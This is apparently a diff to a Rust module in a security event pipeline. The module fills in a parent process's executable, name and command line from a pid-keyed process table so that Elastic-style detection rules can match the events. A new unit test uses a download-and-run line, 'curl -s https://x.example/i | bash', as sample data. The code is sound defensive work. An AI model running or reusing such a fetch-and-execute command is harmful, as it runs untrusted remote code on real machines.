@@ -1,7 +1,8 @@
 //! Parent lineage from a process table: sources such as eslogger name a new process's parent only by pid.
-//! [`Lineage`] remembers the executable of every process start it sees, keyed by host and pid, and fills
-//! `process.parent.executable` / `process.parent.name` into later events that have `process.parent.pid`
-//! but no parent image, so rules written against the Elastic shape (`process.parent.name`) work on them.
+//! [`Lineage`] remembers the executable (and command line) of every process start it sees, keyed by host and
+//! pid, and fills `process.parent.executable` / `process.parent.name` / `process.parent.command_line` into
+//! later events that have `process.parent.pid` but not those fields, so rules and alert reasons written against
+//! the Elastic shape (`process.parent.name`) work on them.
 //! The table is bounded; the oldest entries go first.
 
 use std::collections::{BTreeMap, VecDeque};
@@ -11,7 +12,7 @@ use crate::{Event, Field, Value};
 
 const MAX_PROCS: usize = 100_000;
 
-struct Fields {
+struct LineageFields {
     category: Field,
     etype: Field,
     host_id: Field,
@@ -21,9 +22,11 @@ struct Fields {
     ppid: Field,
     pexe: Field,
     pname: Field,
+    cmd: Field,
+    pcmd: Field,
 }
 
-static F: LazyLock<Fields> = LazyLock::new(|| Fields {
+static F: LazyLock<LineageFields> = LazyLock::new(|| LineageFields {
     category: Field::intern("event.category"),
     etype: Field::intern("event.type"),
     host_id: Field::intern("host.id"),
@@ -33,6 +36,8 @@ static F: LazyLock<Fields> = LazyLock::new(|| Fields {
     ppid: Field::intern("process.parent.pid"),
     pexe: Field::intern("process.parent.executable"),
     pname: Field::intern("process.parent.name"),
+    cmd: Field::intern("process.command_line"),
+    pcmd: Field::intern("process.parent.command_line"),
 });
 
 fn has(ev: &Event, f: Field, want: &str) -> bool {
@@ -43,9 +48,16 @@ fn has(ev: &Event, f: Field, want: &str) -> bool {
     }
 }
 
+/// What the table keeps of one process start.
+struct Proc {
+    exe: Value,
+    name: Option<Value>,
+    command_line: Option<Value>,
+}
+
 #[derive(Default)]
 pub struct Lineage {
-    procs: BTreeMap<(String, i64), (Value, Option<Value>)>,
+    procs: BTreeMap<(String, i64), Proc>,
     order: VecDeque<(String, i64)>,
 }
 
@@ -72,26 +84,46 @@ impl Lineage {
                         }
                     }
                 }
-                self.procs
-                    .insert(key, (exe.clone(), ev.get(f.name).cloned()));
+                self.procs.insert(
+                    key,
+                    Proc {
+                        exe: exe.clone(),
+                        name: ev.get(f.name).cloned(),
+                        command_line: ev.get(f.cmd).cloned(),
+                    },
+                );
             }
         }
-        if ev.get(f.pexe).is_some() && ev.get(f.pname).is_some() {
+        if ev.get(f.pexe).is_some() && ev.get(f.pname).is_some() && ev.get(f.pcmd).is_some() {
             return None;
         }
         let ppid = ev.get(f.ppid).and_then(Value::as_i64)?;
-        let (exe, name) = self.procs.get(&(Lineage::host(ev), ppid))?;
+        let parent = self.procs.get(&(Lineage::host(ev), ppid))?;
+        // A parent image the event names itself wins; the table only fills what is missing, and only from
+        // the same image (a parent whose executable differs from the table's has exec'd since).
+        if let Some(own) = ev.get(f.pexe) {
+            if own != &parent.exe {
+                return None;
+            }
+        }
         let mut out = ev.clone();
         if out.get(f.pexe).is_none() {
-            out.set(f.pexe, exe.clone());
+            out.set(f.pexe, parent.exe.clone());
         }
         if out.get(f.pname).is_none() {
-            let n = name.clone().or_else(|| {
-                exe.as_str()
+            let n = parent.name.clone().or_else(|| {
+                parent
+                    .exe
+                    .as_str()
                     .map(|p| Value::Str(p.rsplit('/').next().unwrap_or(p).into()))
             });
             if let Some(n) = n {
                 out.set(f.pname, n);
+            }
+        }
+        if out.get(f.pcmd).is_none() {
+            if let Some(c) = &parent.command_line {
+                out.set(f.pcmd, c.clone());
             }
         }
         Some(out)
@@ -128,5 +160,30 @@ mod tests {
         );
         // Unknown parent: nothing to add.
         assert!(l.observe(&exec(12, 99, "/bin/sh")).is_none());
+    }
+
+    #[test]
+    fn fills_parent_command_line_from_the_same_image_only() {
+        let mut l = Lineage::default();
+        let mut bash = exec(20, 1, "/bin/bash");
+        bash.set(
+            Field::intern("process.command_line"),
+            Value::Str("/bin/bash -c curl -s https://x.example/i | bash".into()),
+        );
+        assert!(l.observe(&bash).is_none());
+        let filled = l.observe(&exec(21, 20, "/usr/bin/osascript")).unwrap();
+        assert_eq!(
+            filled
+                .get_path("process.parent.command_line")
+                .and_then(Value::as_str),
+            Some("/bin/bash -c curl -s https://x.example/i | bash")
+        );
+        // The event names another parent image than the table: the table is stale, nothing is mixed in.
+        let mut other = exec(22, 20, "/bin/sh");
+        other.set(
+            Field::intern("process.parent.executable"),
+            Value::Str("/usr/bin/python3".into()),
+        );
+        assert!(l.observe(&other).is_none());
     }
 }
